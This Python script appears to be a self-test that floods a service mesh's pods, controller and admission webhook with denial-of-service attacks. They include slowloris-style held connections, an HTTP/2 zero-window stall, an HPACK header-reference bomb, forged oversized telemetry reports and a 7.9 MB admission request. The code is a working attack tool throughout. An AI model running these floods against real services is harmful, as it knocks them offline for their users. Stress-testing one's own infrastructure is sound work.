"""What a stranger's pod can try against a meshed pod, the controller and the webhook: all of it, at once, for a while.

    python3 attacks.py SECONDS POD_IP PORT CONTROLLER_IP WEBHOOK_HOST

It speaks in bare bytes, so that nothing polite stands between it and its victims. Every attack opens its connections
once, one after another, holds what it can hold and comes again when it is thrown out, with a pause: it tries to exhaust
memory, places and descriptors, not the machine's processors, which it shares with those it attacks. Prints how often
each came through.
"""

import asyncio
import json
import os
import random
import ssl
import struct
import sys
from collections import Counter
from collections.abc import Awaitable, Callable

PAUSE_S = 0.3
"""Seconds before an attacker who was thrown out comes again."""

OPENING_S = 4.0
"""Seconds within which all attackers have come for the first time."""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS, WINDOW_UPDATE, CONTINUATION = 0, 1, 4, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4

seen: Counter[str] = Counter()
comes_after_s = random.Random(1).uniform


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream_id) + payload


def literal(name: bytes, value: bytes, prefix: int = 0) -> bytes:
    """A header of HPACK; `prefix` 0x40 puts it into the dynamic table."""

    def text(data: bytes) -> bytes:
        return (bytes([len(data)]) if len(data) < 127 else b"\x7f" + varint(len(data) - 127)) + data

    return bytes([prefix]) + text(name) + text(value)


def varint(number: int) -> bytes:
    out = b""
    while number > 127:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])


def get(path: bytes = b"/") -> bytes:
    return b"\x82\x86" + literal(b":path", path) + literal(b":authority", b"busy")


class Victim:
    """An address, and what the attackers of it do again and again."""

    def __init__(self, host: str, port: int, tls: ssl.SSLContext | None = None) -> None:
        self.host, self.port, self.tls = host, port, tls

    async def hold(self, name: str, first: bytes, then: Callable[[asyncio.StreamWriter], Awaitable[None]]) -> None:
        """Open, say `first`, go on with `then`, until thrown out; then again."""
        await asyncio.sleep(comes_after_s(0, OPENING_S))
        while True:
            try:
                reader, writer = await asyncio.open_connection(self.host, self.port, ssl=self.tls)
                seen[name] += 1
                writer.write(first)
                try:
                    await asyncio.gather(then(writer), drop(reader, name))
                finally:
                    writer.transport.abort()
            except (OSError, EOFError, ssl.SSLError):
                pass
            await asyncio.sleep(PAUSE_S)


async def drop(reader: asyncio.StreamReader, name: str) -> None:
    while data := await reader.read(65536):
        if b" 503 " in data or b" 429 " in data or b" 431 " in data or b" 413 " in data:
            seen[f"{name}: refused"] += 1
    raise EOFError


async def silence(_writer: asyncio.StreamWriter) -> None:
    await asyncio.sleep(3600)


async def dribble(writer: asyncio.StreamWriter) -> None:
    """Say nothing, slowly."""
    while True:
        writer.write(b"\r\n" * 8)
        await writer.drain()
        await asyncio.sleep(0.2)


async def empty_lines(writer: asyncio.StreamWriter) -> None:
    for _ in range(256):
        writer.write(b"\r\n" * 32768)
        await writer.drain()
        await asyncio.sleep(0.05)


def closed_window() -> bytes:
    """A client that asks 100 times for what it never takes."""
    settings = struct.pack("!HI", INITIAL_WINDOW_SIZE, 0)
    asked = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, get(b"/large")) for n in range(100))
    return PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, 1, 0) + asked


def references() -> bytes:
    """One large header in the dynamic table, named over and over: few bytes to send, many to keep."""
    bomb = get() + literal(b"cookie", b"a" * 3800, 0x40) + b"\xbe" * 8000
    head = b""
    for n in range(20):
        head += frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, bomb if n == 0 else get() + b"\xbe" * 8000)
    return PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0) + head


def bodies() -> bytes:
    """Uploads of a full window on each of 100 streams, none ended."""
    out = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0)
    for n in range(100):
        stream_id = 2 * n + 1
        out += frame(
            HEADERS, END_HEADERS, stream_id, b"\x83\x86" + literal(b":path", b"/slow") + literal(b":authority", b"busy")
        )
        out += b"".join(frame(DATA, 0, stream_id, b"x" * 16000) for _ in range(4))
    return out


def report(number: int) -> bytes:
    """As large as a report can be, for an hour, in the name of a pod that is not there or not the sender."""
    peer = {"namespace": "n", "service": "s" * 200}
    latency = [1] * 26
    series = [
        {
            "direction": "outbound",
            "peer": {**peer, "pod": f"p{n}"},
            "success": n,
            "failure": 0,
            "latency_ms": latency,
            "latency_sum_ms": 1.0,
        }
        for n in range(1500)
    ]
    body = {
        "namespace": "shop",
        "pod": f"pod-{number}",
        "instance": os.urandom(8).hex(),
        "sequence": 1,
        "interval_s": 3600,
        "http": series,
        "tcp": [],
    }
    return post("/proxy/v1/reports", json.dumps(body).encode())


def subscription(number: int) -> bytes:
    targets = {f"10.{number % 200}.{n >> 8}.{n & 255}:80": "" for n in range(4096)}
    return post(
        "/proxy/v1/discovery", json.dumps({"namespace": "shop", "pod": f"pod-{number}", "targets": targets}).encode()
    )


def review() -> bytes:
    """An admission of 7.9 MB with a name that looks like an annotation of ours."""
    annotations = {f"config.tulle.mesh/{'x' * 60}{n}": "y" * 2000 for n in range(3700)}
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "p", "namespace": "default", "annotations": annotations},
        "spec": {"containers": [{"name": "c"}]},
    }
    request = {
        "uid": "u",
        "kind": {"group": "", "version": "v1", "kind": "Pod"},
        "resource": {"group": "", "version": "v1", "resource": "pods"},
        "namespace": "default",
        "operation": "CREATE",
        "userInfo": {},
        "object": pod,
    }
    return post(
        "/inject",
        json.dumps({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": request}).encode(),
    )


def post(path: str, body: bytes) -> bytes:
    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
    return head.encode() + body


def attacks(pod_ip: str, port: int, controller_ip: str, webhook_host: str) -> list[Awaitable[None]]:
    """Everything at once: name, how many attackers, whom, with which first words, and how they go on."""
    trust = ssl.create_default_context()
    trust.check_hostname, trust.verify_mode = False, ssl.CERT_NONE
    http1, http2 = Victim(pod_ip, port), Victim(pod_ip, port + 1)
    admin, controller, webhook = Victim(pod_ip, 4191), Victim(controller_ip, 8085), Victim(webhook_host, 443, trust)
    half_head = b"GET / HTTP/1.1\r\nHost: busy\r\nX: " + b"a" * 60000
    plans = [
        ("silent", 300, http1, b"", silence),
        ("half heads", 600, http1, half_head, silence),
        ("empty lines", 4, http1, b"", empty_lines),
        ("slow empty lines", 20, http1, b"", dribble),
        ("closed window", 10, http2, closed_window(), silence),
        ("references", 4, http2, references(), silence),
        ("bodies", 10, http2, bodies(), silence),
        ("silent admin", 150, admin, b"", silence),
        ("half admin", 50, admin, b"GET /metrics HTTP/1.1\r\nX: ", silence),
        ("silent controller", 300, controller, b"", silence),
        ("silent webhook", 100, webhook, b"", silence),
    ]
    each = [victim.hold(name, first, then) for name, count, victim, first, then in plans for _ in range(count)]
    each += [controller.hold("reports", report(n), silence) for n in range(5)]
    each += [controller.hold("subscriptions", subscription(n), silence) for n in range(60)]
    each += [webhook.hold("reviews", review(), silence) for _ in range(4)]
    return each


async def main() -> None:
    os.nice(10)  # on one machine it would take its victims' processors, which strangers elsewhere do not share
    seconds, pod_ip, port, controller_ip, webhook_host = sys.argv[1:]
    work = [asyncio.ensure_future(one) for one in attacks(pod_ip, int(port), controller_ip, webhook_host)]
    await asyncio.sleep(float(seconds))
    pending = set(work)
    while pending:  # who is thrown out in this very moment hears that instead, and goes on
        for one in pending:
            one.cancel()
        _, pending = await asyncio.wait(pending, timeout=1)
    faults = Counter(repr(one.exception()) for one in work if not one.cancelled() and one.exception())
    print(json.dumps({"came": dict(seen), "faults": dict(faults)}))


asyncio.run(main())
